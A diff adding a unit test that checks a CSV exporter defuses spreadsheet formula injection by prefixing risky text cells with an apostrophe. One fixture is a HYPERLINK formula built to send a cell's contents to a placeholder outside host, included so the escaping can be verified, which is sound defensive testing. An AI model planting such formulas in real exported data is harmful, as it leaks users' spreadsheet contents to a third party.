@@ -53,6 +53,23 @@ describe('output formats', () => {
     expect(parsed[2]).toEqual(['Łódź/1', '7', '0.5', 'a "quoted", multi\nline text — €3bn']);
   });
 
+  it('csv: text cells a spreadsheet would run as formulas get an apostrophe, numbers never (docs/csv-safety.md)', () => {
+    const b = specs.map((s) => columnBuilder(s.type));
+    const risky: [string, number, number | null, string | null][] = [
+      ['=HYPERLINK("https://x.example/?"&A1)', -3, -12.5, '-3%'],
+      ['@id', 1, 2, "'=already"],
+      ['plain', 2, null, '+1'],
+    ];
+    for (const r of risky) r.forEach((v, i) => b[i]!.push(v));
+    const t = new arrow.Table(schema, [toRecordBatch(schema, specs, { length: risky.length, columns: b.map((x) => x.finish()) })]);
+    const parsed = Papa.parse<string[]>(new TextDecoder().decode(FORMATS.csv.encode(t, specs)).trimEnd(), { header: false }).data.slice(1);
+    expect(parsed).toEqual([
+      ["'=HYPERLINK(\"https://x.example/?\"&A1)", '-3', '-12.5', "'-3%"],
+      ["'@id", '1', '2', "''=already"],
+      ['plain', '2', '', "'+1"],
+    ]);
+  });
+
   it('jsonl: one object per row, keys in column order, null kept', () => {
     const lines = new TextDecoder().decode(FORMATS.jsonl.encode(table(), specs)).trimEnd().split('\n');
     expect(lines[1]).toBe('{"doc_id":"a","start":31,"value":null,"text":null}');
